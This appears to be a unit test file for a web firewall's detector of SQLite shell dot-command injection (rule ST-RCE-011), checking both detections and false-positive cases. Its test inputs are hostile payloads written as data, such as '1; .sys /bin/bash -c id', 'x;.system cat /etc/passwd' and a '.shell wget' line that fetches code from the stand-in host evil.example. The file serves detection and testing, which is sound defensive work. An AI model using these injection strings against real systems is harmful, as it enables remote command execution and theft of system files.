import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { DetectContext, Point, Sensitivity } from '../src/core/model.js';
import { binaryName, binaryTier, rceDetector } from '../src/detect/detect-rce.js';
import { sqliteDotCommands } from '../src/detect/rce-sqlite-dot.js';

function inspect(value: string, sensitivity: Sensitivity = 'default') {
  const ctx: DetectContext = {
    sensitivity,
    deadline: Number.POSITIVE_INFINITY,
    request: { method: 'GET', host: 'h', path: '/', normalizedPath: '/', headers: [], points: [], anomalies: [] },
  };
  const point: Point = { location: 'query.q', value, chain: [], kind: 'value' };
  return rceDetector.inspectPoint!(point, ctx);
}

const ruleIds = (value: string, sensitivity: Sensitivity = 'default'): string[] =>
  inspect(value, sensitivity).map((h) => h.ruleId);

describe('SQLite CLI shell dot-commands (ST-RCE-011)', () => {
  it('flags .shell/.system and their prefixes after a statement end (CRS 932210)', () => {
    for (const v of [
      '1;.sh whoami',
      '1;.\\"shell whoami\n',
      "1;.\\'shell whoami\n",
      "';\n.system id",
      '1;."shell" uname -a',
      '1; .sys /bin/bash -c id',
      '.shell wget http://evil.example/x',
    ]) {
      assert.ok(ruleIds(v).includes('ST-RCE-011'), v);
    }
  });

  it('reports the dot-command as the fragment', () => {
    const hit = inspect('1;.sh whoami').find((h) => h.ruleId === 'ST-RCE-011');
    assert.equal(hit?.fragment, ';.sh whoami');
    assert.equal(hit?.severity, 'critical');
  });

  it('needs a known binary, and an abbreviated name a binary that is not an English word', () => {
    assert.deepEqual(ruleIds('end of the list;.sh files'), []);
    assert.deepEqual(ruleIds('rename it to deploy;.sh script'), []);
    assert.deepEqual(ruleIds('see install;.shadow whoami'), []);
    // Read-only dot-commands are not command execution.
    assert.deepEqual(ruleIds(';\n.databases'), []);
    // A `.sh` file name in prose is no dot-command.
    assert.deepEqual(ruleIds('run deploy.sh whoami later'), []);
    // The full name with an English-word binary scores, the abbreviation only at high sensitivity.
    assert.ok(ruleIds('x;.system cat /etc/passwd').includes('ST-RCE-011'));
    assert.ok(!ruleIds('x;.sh cat notes').includes('ST-RCE-011'));
    assert.ok(ruleIds('x;.sh cat notes', 'high').includes('ST-RCE-011'));
  });

  it('returns nothing for values without a dot', () => {
    assert.deepEqual(sqliteDotCommands('1; sh whoami', binaryName, binaryTier), []);
  });
});
